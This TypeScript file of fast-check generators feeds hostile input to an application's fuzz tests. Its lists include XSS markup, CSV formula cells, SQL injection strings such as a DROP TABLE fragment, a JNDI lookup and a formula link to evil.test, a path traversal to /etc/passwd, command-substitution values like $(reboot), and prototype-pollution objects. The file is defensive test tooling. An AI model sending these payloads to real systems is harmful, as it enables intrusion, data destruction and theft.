// Hostile input for the fuzz suites: what a careless client, a pasted spreadsheet or an attacker
// sends. Strings that break encodings, storage or markup; values of the wrong type; objects built
// to pollute prototypes or exhaust recursion. Every arbitrary here is plain data (JSON-safe where
// its name says so), so one counterexample can be replayed over HTTP as it was found.
import fc from "fast-check";
import type { z } from "zod";

/** Runs per property: the CI figure, or FUZZ_RUNS for a longer local hunt (`FUZZ_RUNS=500 npx jest …`). */
export const fuzzRuns = (ci: number): number => Number(process.env.FUZZ_RUNS) || ci;

/**
 * Markup that runs script if a page ever renders it unescaped. Each sets window.__awmsXss (never an
 * alert, which would block the page) so a browser test can ask whether any of them ran.
 */
export const SCRIPT_PAYLOADS = [
  `<img src=x onerror="window.__awmsXss=1">`,
  `</script><script>window.__awmsXss=2</script>`,
  `"><svg onload="window.__awmsXss=3">`,
  `'><iframe srcdoc="<script>parent.__awmsXss=4</script>">`,
  `javascript:window.__awmsXss=5`,
  `<a href="javascript:window.__awmsXss=6" id=awms-xss-link>x</a>`,
  `{{constructor.constructor('window.__awmsXss=7')()}}`,
  `<details open ontoggle="window.__awmsXss=8">`,
];

/** Cells a spreadsheet would run as a formula (OWASP "CSV injection"). */
export const FORMULA_PAYLOADS = [`=HYPERLINK("http://evil.test","x")`, `+1+1`, `-2+3`, `@SUM(1,1)`, `\t=1+1`, `\r=1+1`];

const SQL_FRAGMENTS = [`' OR '1'='1`, `'; DROP TABLE "Customer"; --`, `1; SELECT pg_sleep(5)`, `" OR ""="`, `\\'; --`, `%' AND 1=1 --`, `$1`, `E'\\x00'`];
const UNICODE = [
  "\u202Eevil\u202C", // right-to-left override
  "\u200B\u200C\u200D\uFEFF", // zero-width characters and a BOM
  "مرحبا بالعالم", // right-to-left script
  "😀👩‍🔧🇬🇧", // astral plane, a ZWJ sequence and a flag
  "𝕬𝖂𝕸𝕾", // mathematical letters (astral)
  "\uD800", // a lone surrogate: not encodable as UTF-8
  "\uDFFFa\uD83D",
  "e\u0301\u0301\u0301\u0301\u0301", // stacked combining marks
  "İıß\u0130", // case mapping that changes length
  "\u0000", // NUL: Postgres text cannot hold it
  "before\u0000after",
  "\u0001\u001b[31m\u007f", // control characters and an ANSI escape
  "\r\n\r\n", // line breaks (header and CSV injection)
  "\u2028\u2029", // JavaScript line separators
];
const NUMBERS_AS_TEXT = ["0", "-0", "-1", "1e309", "-1e309", "NaN", "Infinity", "9007199254740993", "2147483648", "-2147483649", "0x10", "1_000", "１２３", "0.1e-400", "  7  ", "3.999999999999999999"];
// Dates JavaScript can hold that Postgres cannot (and the other way round), and calendar impossibilities.
const DATES_AT_EDGES = ["+275760-09-13T00:00:00.000Z", "-271821-04-20T00:00:00.000Z", "0000-01-01", "-000001-01-01T00:00:00Z", "9999-12-31T23:59:59.999Z", "2026-02-30", "2026-13-01T25:61", "1970-01-01T00:00:00+14:00", "20261130"];
const NAMES_OF_PROTOTYPES = ["__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty"];
const MARKUP_AND_PATHS = ["../../etc/passwd", "%00", "%2e%2e%2f", "${jndi:ldap://evil.test/a}", "<!--", "]]>", "{{7*7}}", "$(reboot)", "`id`", "*", "%", "_"];

export const HOSTILE_TEXTS: readonly string[] = [
  "", " ", "\t\n", ...SCRIPT_PAYLOADS, ...FORMULA_PAYLOADS, ...SQL_FRAGMENTS, ...UNICODE, ...NUMBERS_AS_TEXT, ...DATES_AT_EDGES, ...NAMES_OF_PROTOTYPES, ...MARKUP_AND_PATHS,
];

/** A string well past every field's limit (and, repeated, past a request body's). */
export const hugeText = (length: number, unit = "x") => unit.repeat(Math.ceil(length / unit.length)).slice(0, length);

/** Just past the common field limits, and far past them. */
const HUGE_LENGTHS = [201, 256, 2_001, 5_001, 70_000];
const made = new Map<number, string>();
/** Two-byte and astral characters, so a limit counted in bytes, UTF-16 units or characters all overflow. */
const hugeTexts = (length: number) => made.get(length) ?? made.set(length, hugeText(length, "ÿ😀")).get(length)!;

/** Any string, weighted towards the ones that break things; `maxHuge` bounds the huge ones (bodies have a cap). */
export function hostileText(options: { maxHuge?: number } = {}): fc.Arbitrary<string> {
  const maxHuge = options.maxHuge ?? 70_000;
  return fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
    { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
    { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }) },
    // A hostile fragment inside ordinary text, as a pasted value would carry it.
    { weight: 2, arbitrary: fc.tuple(fc.string({ maxLength: 8 }), fc.constantFrom(...HOSTILE_TEXTS), fc.string({ maxLength: 8 })).map((parts) => parts.join("")) },
    { weight: 1, arbitrary: fc.constantFrom(...HUGE_LENGTHS.filter((length) => length <= maxHuge), maxHuge).map((length) => hugeTexts(length)) },
    { weight: 1, arbitrary: fc.uuid() },
    { weight: 1, arbitrary: fc.date({ noInvalidDate: true, min: new Date("0001-01-01"), max: new Date("9999-12-31") }).map((d) => d.toISOString()) },
  );
}

/** Numbers where code paths change: signs, int32 and safe-integer edges, the non-finite ones. */
export const edgeNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(0, -0, 1, -1, 0.5, 2 ** 31 - 1, 2 ** 31, -(2 ** 31) - 1, Number.MAX_SAFE_INTEGER, Number.MAX_SAFE_INTEGER + 2, Number.MIN_SAFE_INTEGER, Number.MAX_VALUE, Number.MIN_VALUE, Number.EPSILON, 1e21),
  fc.integer(),
  fc.double(),
);

/** An object whose own keys are the prototype's names, as JSON.parse makes them (a literal `__proto__` would set the prototype instead). */
export const pollutingObject: fc.Arbitrary<Record<string, unknown>> = fc
  .constantFrom(
    `{"__proto__":{"polluted":"yes","isAdmin":true}}`,
    `{"constructor":{"prototype":{"polluted":"yes"}}}`,
    `{"__proto__":null}`,
    `{"toString":"not a function","valueOf":{}}`,
  )
  .map((json) => JSON.parse(json) as Record<string, unknown>);

/** JSON-safe values of every type, nested deeply now and then. */
export const hostileJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    hostileText({ maxHuge: 5_000 }),
    edgeNumber.map((n) => (Number.isFinite(n) ? n : null)),
    fc.boolean(),
    fc.constant(null),
    pollutingObject,
    fc.array(tie("value"), { maxLength: 4 }),
    fc.dictionary(fc.oneof(fc.string({ maxLength: 6 }), fc.constantFrom(...NAMES_OF_PROTOTYPES)), tie("value"), { maxKeys: 4 }),
  ),
})).value;

/** An object nested `depth` levels deep: what a parser that recurses without a bound falls over on. */
export const deeplyNested = (depth: number): unknown => {
  let value: unknown = "bottom";
  for (let i = 0; i < depth; i += 1) value = i % 2 ? [value] : { a: value };
  return value;
};

/** The same as JSON text, built without recursion (JSON.stringify itself overflows the stack on it). */
export const deeplyNestedJson = (depth: number): string => `${'{"a":['.repeat(depth)}1${"]}".repeat(depth)}`;

/** A path segment with every UTF-8 byte percent-encoded (encodeURIComponent throws on a lone surrogate); empty and dot segments, which a URL resolves away, become "%20". */
export const pathSegment = (text: string): string =>
  ["", ".", ".."].includes(text) ? "%20" : [...Buffer.from(text, "utf8")].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");

/** Any value at all for a field: hostile text most of the time, else any JSON type or a deep nest. */
export const hostileFieldValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: hostileText() },
  { weight: 3, arbitrary: hostileJson },
  { weight: 1, arbitrary: fc.constantFrom(deeplyNested(20), deeplyNested(3_000)) },
);

/**
 * A record with the schema's own field names (some left out) holding hostile values, plus a few
 * unexpected keys, prototype names among them. Prototype names become own properties, as in
 * a parsed JSON body.
 */
export function hostileRecord(
  fields: readonly string[],
  value: fc.Arbitrary<unknown> = hostileFieldValue,
  known: Readonly<Record<string, string>> = {},
): fc.Arbitrary<Record<string, unknown>> {
  // A field that names a record gets a real one of the workshop most of the time, so the hostile rest reaches the database.
  const valueOf = (key: string) => (known[key] === undefined ? value : fc.oneof({ weight: 3, arbitrary: fc.constant<unknown>(known[key]) }, { weight: 1, arbitrary: value }));
  const own = fields.length
    ? fc.subarray([...new Set(fields)], { minLength: 0 }).chain((chosen) => fc.tuple(...chosen.map((key) => valueOf(key).map((v) => [key, v] as const))))
    : fc.constant([] as Array<readonly [string, unknown]>);
  const extra = fc.array(fc.tuple(fc.oneof(fc.constantFrom(...NAMES_OF_PROTOTYPES), fc.string({ maxLength: 8 })), value), { maxLength: 2 });
  return fc.tuple(own, extra).map(([ownEntries, extraEntries]) => {
    const record: Record<string, unknown> = {};
    for (const [key, v] of [...ownEntries, ...extraEntries]) Object.defineProperty(record, key, { value: v, enumerable: true, writable: true, configurable: true });
    return record;
  });
}

/** Form fields are strings: the same record as a form would post it (a value that is not text posts as its JSON). */
export function hostileFormFields(fields: readonly string[], known: Readonly<Record<string, string>> = {}): fc.Arbitrary<Record<string, string>> {
  return hostileRecord(fields, fc.oneof({ weight: 5, arbitrary: hostileText() }, { weight: 1, arbitrary: hostileJson.map((v) => JSON.stringify(v) ?? "") }), known).map(
    (record) => Object.fromEntries(Object.entries(record).map(([key, v]) => [key, String(v)])),
  );
}

interface ZodInternals { _zod: { def: Record<string, unknown> & { type: string } } }

/**
 * The field names a schema reads, through wrappers (optional, default, pipe, preprocess,
 * intersection, union, lazy). Empty for a schema that is not an object.
 */
export function fieldNamesOf(schema: z.ZodType, seen = new Set<unknown>()): string[] {
  if (seen.has(schema)) return [];
  seen.add(schema);
  const def = (schema as unknown as ZodInternals)._zod.def;
  const walk = (inner: unknown) => (inner ? fieldNamesOf(inner as z.ZodType, seen) : []);
  switch (def.type) {
    case "object":
      return Object.keys(def.shape as Record<string, unknown>);
    case "intersection":
      return [...walk(def.left), ...walk(def.right)];
    case "union":
      return (def.options as z.ZodType[]).flatMap((option) => walk(option));
    case "pipe":
      return [...walk(def.in), ...walk(def.out)];
    case "lazy":
      return walk((def.getter as () => unknown)());
    default:
      return walk(def.innerType);
  }
}

/** Whether Object.prototype gained anything (a polluted prototype shows in every object). */
export function prototypePollution(): string[] {
  const probe: Record<string, unknown> = {};
  return ["polluted", "isAdmin"].filter((key) => probe[key] !== undefined);
}

/**
 * A valid record with one or two of its fields replaced by hostile values: what gets past the
 * other fields' checks and carries the hostile value into the database and onto the pages.
 */
export function withHostileFields<T extends Record<string, unknown>>(valid: T, value: fc.Arbitrary<unknown> = hostileText()): fc.Arbitrary<Record<string, unknown>> {
  const keys = Object.keys(valid);
  if (keys.length === 0) return fc.constant({});
  return fc.array(fc.tuple(fc.constantFrom(...keys), value), { minLength: 1, maxLength: 2 }).map((replacements) => {
    const record: Record<string, unknown> = { ...valid };
    for (const [key, v] of replacements) record[key] = v;
    return record;
  });
}
